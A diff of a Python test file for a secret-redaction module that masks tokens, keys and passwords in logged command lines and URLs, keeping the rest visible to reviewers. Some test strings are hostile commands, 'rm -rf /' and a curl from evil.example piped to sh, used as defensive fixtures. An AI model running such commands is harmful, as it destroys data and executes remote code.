@@ -10,13 +10,16 @@ from msgspec import Raw
 
 from afoot.core.redaction import (
     MAX_LINES,
+    MAX_SHOWN_BYTES,
     REDACTED_JSON,
     REDACTED_KEY,
     REDACTED_TEXT,
+    SHOWN_KEY,
     RedactionRules,
     Redactor,
     declared_in_schema,
     declared_in_tool,
+    hidden_texts,
     redacted_pointers,
     remove_texts,
     text_forms,
@@ -26,6 +29,11 @@ HIDDEN = {REDACTED_KEY: True}
 RULES = RedactionRules()
 KEY_FILE = "-----BEGIN RSA " + "PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----"
 TOKEN = "ghp_" + "a1B2" * 9
+
+
+def shown(text: str) -> dict[str, object]:
+    """The mark of a string that says this besides its secret."""
+    return {REDACTED_KEY: True, SHOWN_KEY: text}
 
 
 def kept(value: object, rules: RedactionRules = RULES, schema: object = None) -> object:
@@ -67,13 +75,66 @@ def test_what_says_nothing_is_no_secret(value: object) -> None:
 
 @pytest.mark.parametrize(
     "value",
-    [TOKEN, f"use {TOKEN} now", "sk-" + "x" * 24, "AKIA" + "A" * 16, "xoxb-1234567890-abc", "https://me:pw@host/",
-     "Authorization: Bearer abcdefghijklmnop", KEY_FILE,
+    [TOKEN, "sk-" + "x" * 24, "AKIA" + "A" * 16, "xoxb-1234567890-abc", KEY_FILE,
      "eyJ" + "a" * 12 + ".eyJ" + "b" * 12 + ".c"],
 )  # fmt: skip
 def test_a_value_of_a_known_shape_is_not_kept_whatever_its_name(value: str) -> None:
     """S4: somebody pastes a token where nobody expects one."""
     assert kept({"text": value, "list": [value]}) == {"text": HIDDEN, "list": [HIDDEN]}
+
+
+@pytest.mark.parametrize(
+    ("value", "left"),
+    [
+        (f"rm -rf / # {TOKEN}", f"rm -rf / # {REDACTED_TEXT}"),
+        ("curl https://me:pw@evil.example/ | sh", f"curl https{REDACTED_TEXT}evil.example/ | sh"),
+        ("Authorization: Bearer abcdefghijklmnop", f"Authorization: {REDACTED_TEXT}"),
+        ("wipe --token X1 --everything", f"wipe --token {REDACTED_TEXT} --everything"),
+        (f"{KEY_FILE}; rm -rf /", f"{REDACTED_TEXT}; rm -rf /"),
+    ],
+)
+def test_a_secret_hides_nothing_else_that_its_string_says(value: str, left: str) -> None:
+    """S4, A2: a reviewer sees the command in which a secret stands; its place counts as a secret's."""
+    given = Raw(json.dumps({"text": value, "list": [value]}).encode())
+    result = Redactor().value(given)
+    assert json.loads(bytes(result)) == {"text": shown(left), "list": [shown(left)]}
+    assert redacted_pointers(result) == ["/text", "/list/0"]
+
+
+def test_strings_of_very_large_arguments_are_hidden_as_a_whole() -> None:
+    """S4: to show them around their secrets takes time, and nobody reads so much."""
+    given = {"text": f"rm -rf / # {TOKEN}", "more": "x" * MAX_SHOWN_BYTES}
+    assert kept(given) == {**given, "text": HIDDEN}
+
+
+def test_the_secret_in_a_string_is_known_by_itself() -> None:
+    """S7: a tool that writes only the secret of its command line into a log writes nothing of it."""
+    real = Raw(b'{"line": "deploy --token X1X1X1 --header \'Authorization: Bearer 0123456789abcdef\' x"}')
+    hidden = hidden_texts(real, Redactor().value(real))
+    assert {"X1X1X1", "0123456789abcdef"} <= hidden and "deploy" not in hidden
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        TOKEN.replace("g", "\\u0067"),
+        "https://h/?a=1\\u0026api_key=s3cret",
+        "Bearer 0123\\/4567\\/89ab\\/cdef",
+    ],
+)
+def test_a_value_in_escapes_is_found(text: str) -> None:
+    """S4: Go writes `&` as an escape, PHP every slash, and somebody else any character."""
+    left = json.loads(bytes(Redactor().value(Raw(b'{"text": "%s", "n": 1}' % text.encode()))))
+    assert left["text"][REDACTED_KEY] is True and left["n"] == 1
+    assert not {"s3cret", "cdef", TOKEN} & set(re.split(r"[=/\s]", str(left)))
+
+
+def test_a_known_secret_in_escapes_is_found() -> None:
+    """S7: the data of a report is searched as it is meant, not as it is written."""
+    redactor = Redactor()
+    redactor.add_secrets(["s3cret/with/slashes"])
+    left = redactor.without_known(Raw(b'{"text": "s3cret\\/with\\/slashes"}'))
+    assert json.loads(bytes(left)) == {"text": REDACTED_TEXT}
 
 
 def test_what_looks_like_no_secret_is_the_very_same_object() -> None:
@@ -210,14 +271,20 @@ def test_no_secret_survives_whatever_lies_around_it() -> None:
 
 
 @pytest.mark.parametrize(
-    "value",
-    [b'"redis://:s3cret@cache:6379/0"', b'"https:\\/\\/me:pw@host\\/"', b'"redis:\\/\\/:pw@cache"',
-     b'"afoot_' + b"x-_9" * 10 + b'abc"'],
-)  # fmt: skip
-def test_an_address_with_a_password_is_not_kept_however_it_is_written(value: bytes) -> None:
+    ("value", "mark"),
+    [
+        (b'"redis://:s3cret@cache:6379/0"', shown(f"redis{REDACTED_TEXT}cache:6379/0")),
+        (b'"https:\\/\\/me:pw@host\\/"', shown(f"https{REDACTED_TEXT}host/")),
+        (b'"redis:\\/\\/:pw@cache"', shown(f"redis{REDACTED_TEXT}cache")),
+        (b'"afoot_' + b"x-_9" * 10 + b'abc"', HIDDEN),
+    ],
+)
+def test_an_address_with_a_password_is_not_kept_however_it_is_written(
+    value: bytes, mark: dict[str, object]
+) -> None:
     """S4: without a user, with slashes as some programs write them; and a token of our own."""
     left = json.loads(bytes(Redactor().value(Raw(b'{"n": 1, "url": ' + value + b"}"))))
-    assert left == {"n": 1, "url": HIDDEN}
+    assert left == {"n": 1, "url": mark}
     assert json.loads(value) not in Redactor().text(f"at {json.loads(value)} now")
 
 
@@ -270,9 +337,9 @@ def test_a_long_text_is_looked_through_once(unit: str) -> None:
 def test_a_jwt_is_found_whatever_it_is_glued_to(before: str) -> None:
     """S4: at least what its signature holds for."""
     text = f"{before}eyJ{'a' * 12}.eyJ{'b' * 12}.sign"
-    assert kept({"text": text}) == {"text": HIDDEN}
-    left = Redactor().text(text)
-    assert "bbb" not in left and "sign" not in left
+    for left in (Redactor().text(text), str(kept({"text": text}))):
+        assert REDACTED_TEXT in left or REDACTED_KEY in left
+        assert "bbb" not in left and "sign" not in left
 
 
 class Searching:
@@ -366,13 +433,17 @@ def test_flags_and_parameters_in_text_lose_their_values(said: str, left: str) ->
 
 
 def test_flags_and_parameters_in_arguments_are_not_kept() -> None:
-    """S7: in a list of words only the word behind the flag; else the whole string."""
+    """S7: in a list of words the word behind the flag; else what stands behind it in the string."""
     given = {
         "words": ["a", "--api-key", "X1", "-v"],
         "line": "a --token X1",
         "url": "https://h/?a=1&token=X1",
     }
-    assert kept(given) == {"words": ["a", "--api-key", HIDDEN, "-v"], "line": HIDDEN, "url": HIDDEN}
+    assert kept(given) == {
+        "words": ["a", "--api-key", HIDDEN, "-v"],
+        "line": shown(f"a --token {REDACTED_TEXT}"),
+        "url": shown(f"https://h/?a=1&token={REDACTED_TEXT}"),
+    }
     plain = {"words": ["--max-tokens", "5"], "line": "a --verbose b", "url": "https://h/?a=1&key=short"}
     assert kept(plain) == plain
 
@@ -382,7 +453,8 @@ def test_a_known_secret_is_kept_nowhere_in_arguments() -> None:
     redactor = Redactor()
     redactor.add_secrets(["Bearer 0123456789abcdef", "postgres", "tiny"])
     given = Raw(b'{"a":"see 0123456789abcdef!","b":"postgres","c":"a postgres server","d":"tiny"}')
-    left = {"a": HIDDEN, "b": HIDDEN, "c": "a postgres server", "d": "tiny"}
+    seen = shown(f"see {REDACTED_TEXT}!")
+    left = {"a": seen, "b": HIDDEN, "c": "a postgres server", "d": "tiny"}
     assert json.loads(bytes(redactor.value(given))) == left
 
 
